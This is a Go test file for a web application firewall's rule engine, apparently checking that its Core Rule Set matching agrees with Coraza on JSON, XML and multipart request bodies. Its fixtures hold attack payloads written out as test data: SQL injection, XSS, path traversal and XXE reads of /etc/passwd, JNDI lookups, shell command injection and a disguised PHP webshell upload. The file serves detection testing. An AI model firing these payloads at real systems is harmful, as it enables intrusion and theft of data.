package crs_test

import (
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sasumata/sasumata/internal/waf/crs"
)

// bodies are bodies with attacks, and ordinary ones, by their Content-Type.
func bodies() map[string][]string {
	return map[string][]string{
		"application/json": {
			`{"user":"ann","page":2,"tags":["a","b"],"note":null,"on":true,"deep":{"x":{"y":[1,[2,3],{}]}}}`,
			`{"q":"1' UNION SELECT name, password FROM users-- -"}`,
			`{"filter":{"$where":"sleep(5000)","$gt":""},"a":[{"b":"<script>alert(1)</script>"}]}`,
			`[{"path":"..\/..\/..\/etc\/passwd"},"\u003cscript\u003ealert(1)\u003c/script\u003e"]`,
			`{"x":"${jndi:ldap:\/\/a.example\/x}","\u003csvg onload=alert(1)\u003e":1}`,
			`{"java.lang.Runtime":{"getRuntime":"exec"},"account.role":"admin","account":{"role":"'; drop table a--"}}`,
			`["a","b","` + strings.Repeat("word ", 200) + `",1e3,-5,"; cat /etc/passwd"]`,
			`"<img src=x onerror=alert(1)>"`, `[]`, `{}`, `0`, `{"a":[[[["$(id)"]]]],"b":[]}`,
			`{"__proto__":{"x":1},"constructor":{"prototype":{"y":"z"}}}`,
		},
		"application/vnd.api+json; charset=utf-8": {`{"data":{"id":"1 or 1=1","type":"a"}}`},
		"text/xml; charset=utf-8": {
			`<?xml version="1.0"?><order id="7"><name lang="de">Müller &amp; Söhne</name><n>5</n></order>`,
			`<a><b>1' UNION SELECT name, password FROM users-- -</b></a>`,
			`<a b="&lt;script&gt;alert(1)&lt;/script&gt;" c='../../../etc/passwd'/>`,
			`<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;; cat /etc/passwd</a>`,
			`<a><![CDATA[<script>alert(1)</script>]]><!-- ' or 1=1 --><?php system("id") ?></a>`,
			`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><q>$(whoami)</q></soap:Body></soap:Envelope>`,
			`<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>`,
		},
		"application/soap+xml": {`<a b="java.lang.Runtime"><c>${jndi:ldap://a.example/x}</c></a>`},
		"multipart/form-data; boundary=xx": {
			"--xx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' UNION SELECT name, password FROM users-- -\r\n--xx--\r\n",
			"--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system('id'); ?>\r\n--xx\r\nContent-Disposition: form-data; name=\"n\"\r\n\r\nan ordinary text\r\n--xx--\r\n",
			"--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"; filename*=UTF-8''..%2f..%2fetc%2fpasswd\r\n\r\nx\r\n--xx--\r\n",
		},
	}
}

func TestSameRulesAsCorazaOnBodies(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	for level := 1; level <= 2; level++ {
		t.Run(fmt.Sprint("paranoia level ", level), func(t *testing.T) {
			c := newComparison(t, level)
			for kind, list := range bodies() {
				for _, body := range list {
					c.one(t, crs.Request{Method: "POST", URI: "/api", Protocol: "HTTP/1.1", UserAgent: "a", ContentType: kind, Body: body})
				}
			}
			c.report(t, 1)
		})
	}
}

// Of a body that is broken or cut off more is read here than in Coraza, never less.
func TestSameRulesAsCorazaOnDamagedBodies(t *testing.T) {
	if testing.Short() {
		t.Skip("slow")
	}
	var list []crs.Request
	for _, r := range regressions(t) {
		if r.Body != "" && r.ContentType != "" && !strings.HasPrefix(r.ContentType, "application/x-www-form") {
			list = append(list, r)
		}
	}
	own := bodies()
	kinds := make([]string, 0, len(own))
	for kind := range own {
		kinds = append(kinds, kind)
	}
	slices.Sort(kinds)
	for _, kind := range kinds {
		for _, body := range own[kind] {
			list = append(list, crs.Request{Method: "POST", URI: "/api", Protocol: "HTTP/1.1", UserAgent: "a", ContentType: kind, Body: body})
		}
	}
	for level := 1; level <= 2; level++ {
		t.Run(fmt.Sprint("paranoia level ", level), func(t *testing.T) {
			c := newComparison(t, level)
			random := rand.New(rand.NewPCG(31, uint64(level)))
			for range 20_000 / share(20*level) {
				r := list[random.IntN(len(list))]
				r.Body = damage(random, r.Body, list[random.IntN(len(list))].Body)
				if c.damaged = !isWhole(r); c.damaged {
					c.broken++
				}
				c.one(t, r)
			}
			t.Logf("%d of the bodies are broken", c.broken)
			c.report(t, leastAlike(level))
		})
	}
}

// isWhole reports whether Coraza reads all of the body.
func isWhole(r crs.Request) bool {
	switch {
	case strings.Contains(r.ContentType, "json"):
		return typeOf(r.Body) == "application/json"
	case strings.Contains(r.ContentType, "xml"):
		d := xml.NewDecoder(strings.NewReader(r.Body))
		d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
		for {
			if _, err := d.Token(); err != nil {
				return errors.Is(err, io.EOF)
			}
		}
	default:
		return strings.HasSuffix(r.Body, "--\r\n")
	}
}

var brokenEscape = regexp.MustCompile(`\\u[0-9a-fA-F]{0,3}(?:[^0-9a-fA-F]|$)`)

// damage puts a piece of the other body in, takes one out, or cuts the end off.
func damage(random *rand.Rand, body, other string) string {
	pieces := []string{`"`, `'`, `\"`, `\u0027`, `\ud83d`, `{`, `}`, `[`, `]`, `,`, `:`, `<`, `>`, `</a>`, `<a b='c'>`, `&lt;`, `&x;`, `<![CDATA[`, `]]>`, `<!--`, `-->`, `=`, `\`, "\n", `null`, `1`, `é`, "\x00"}
	whole := body
	for range random.IntN(3) {
		at := random.IntN(len(body) + 1)
		end := min(len(body), at+random.IntN(6))
		switch random.IntN(4) {
		case 0:
			body = body[:at] + pieces[random.IntN(len(pieces))] + body[at:]
		case 1:
			body = body[:at] + body[end:]
		case 2:
			from := random.IntN(len(other) + 1)
			body = body[:at] + other[from:min(len(other), from+random.IntN(40))] + body[at:]
		default:
			body = body[:at]
		}
	}
	if brokenEscape.MatchString(body) { // which Coraza takes for a zero byte
		return whole
	}
	return body
}

func TestRulesForKindsOfBodies(t *testing.T) {
	f := func(rules, contentType, body string, want ...int) {
		t.Helper()
		set := compile(t, rules)
		m := set.NewMachine(crs.DefaultMemo())
		r := crs.Request{Method: "POST", URI: "/?u=x", Protocol: "HTTP/1.1", ContentType: contentType, Body: body}
		for range 2 { // the second time from the memo
			if diff := cmp.Diff(want, ids(set, m, r)); diff != "" {
				t.Errorf("%s\non %s %s: %s", rules, contentType, body, diff)
			}
		}
	}
	const jsonType, xmlType, multipartType = "application/json", "application/xml", "multipart/form-data; boundary=x"
	f(`SecRule ARGS_POST:json.a "@streq x" "id:1"`, jsonType, `{"a":"x"}`, 1)
	f(`SecRule ARGS_POST:json.a "@streq x" "id:1"`, "Application/Problem+JSON ; charset=utf-8", `{"a":"x"}`, 1)
	f(`SecRule ARGS_POST:json.a "@streq x" "id:1"`, "", ` {"a":"x"}`, 1)
	f(`SecRule ARGS_POST:json.a "@streq x" "id:1"`, "-", `{"a":"x","b":"cut o`, 1)
	f(`SecRule ARGS_POST:/^.b/ "@streq 1" "id:1"`, "", `{b=1`, 1) // a form
	f(`SecRule ARGS_POST:json.a "@streq x" "id:1"`, "text/plain", `{"a":"x"}`)
	f(`SecRule REQUEST_BODY "@contains x" "id:1"`, jsonType, `{"a":"x"}`)
	f(`SecRule &ARGS_POST "@eq 3" "id:1"`, jsonType, `{"a":["x","y"]}`, 1)
	f(`SecRule XML:/* "@streq x" "id:1"`, xmlType, `<a b="y"> x </a>`, 1)
	f(`SecRule XML:/* "@streq y" "id:1"`, xmlType, `<a b="y"> x </a>`)
	f(`SecRule XML://@* "@streq y" "id:1"`, xmlType, `<a b="y"> x </a>`, 1)
	f(`SecRule XML|!XML://@* "@rx [xy]" "id:1,chain"`+"\n"+`SecRule MATCHED_VAR_NAME|MATCHED_VAR "@streq y" ""`, xmlType, `<a b="y"> x </a>`)
	f(`SecRule XML:/* "@streq x" "id:1"`, "", `<?xml version="1.0"?><a>x</a>`, 1)
	f(`SecRule ARGS_POST:n "@streq x" "id:1"`, multipartType, "--x\r\nContent-Disposition: form-data; name=n\r\n\r\nx\r\n--x--", 1)
	f(`SecRule FILES "@streq a.php" "id:1"`, multipartType, "--x\r\nContent-Disposition: form-data; name=n; filename=\"a.php\"\r\n\r\nx", 1)
	f(`SecRule FILES_NAMES "@streq n" "id:1"`, multipartType, "--x\r\nContent-Disposition: form-data; name=n; filename=\"a.php\"\r\n\r\nx\r\n--x--", 1)
	f(`SecRule FILES "@rx ^(?:a|b).php$" "id:1"`, multipartType, "--x\r\nContent-Disposition: form-data; name=n; filename=a.png; filename*=UTF-8''b%2ephp\r\n\r\nx\r\n--x--", 1)

	const skips = `SecRule REQBODY_PROCESSOR "@streq JSON" "id:1,phase:2,pass,nolog,skip:1"` + "\n" + `SecRule ARGS "@streq x" "id:2"` + "\n" + `SecRule ARGS "@streq x" "id:3"`
	f(skips, "", "", 2, 3)
	f(skips, jsonType, "{}", 3)
	f(skips, jsonType, "", 3)
	f(skips, xmlType, "<a/>", 2, 3)
	const chain = `SecRule REQBODY_PROCESSOR "!@rx JSON|XML" "id:1,phase:2,chain"` + "\n" + `SecRule ARGS "@streq x" ""`
	f(chain, "", "", 1)
	f(chain, jsonType, "{}")
	f(chain, multipartType, "", 1)
	f(`SecRule REQBODY_PROCESSOR "@streq JSON" "id:1,phase:1,pass,nolog,setvar:tx.a=1"`+"\n"+`SecRule TX:a "@eq 1" "id:2,phase:2,pass,nolog,skip:1"`+"\n"+`SecRule ARGS "@streq x" "id:3"`, jsonType, "{}", 3)
}

// A large body of an application is neither an attack nor too much work.
func TestALargeOrdinaryBody(t *testing.T) {
	set := coreRules(t, 1, profile(t))
	m := set.NewMachine(crs.DefaultMemo())
	var b bytes.Buffer
	b.WriteString(`{"data":{"type":"orders","attributes":[`)
	for i := 0; b.Len() < crs.MaxPart; i++ {
		fmt.Fprintf(&b, `{"id":"0f8fad5b-d9cb-469f-a165-%012d","created_at":"2026-01-02T03:04:%02dZ","amount":%d.50,"currency":"EUR","paid":true,"customer":{"name":"Ann O'Brien","e-mail":"ann%d@example.com","phone":null},"lines":[{"sku":"A-%d","text":"Chair, oak (set of 2)"}]},`, i, i%60, i, i, i)
	}
	for _, size := range []int{b.Len(), 8 << 10} {
		r := crs.Request{Method: "POST", URI: "/api/orders", Protocol: "HTTP/1.1", ContentType: "application/json", Body: b.String()[:size]}
		if got := m.Match(&r, 0, nil); got.Cut || len(got.Rules) > 0 {
			t.Errorf("%d bytes: %+v", size, got)
		}
	}
}
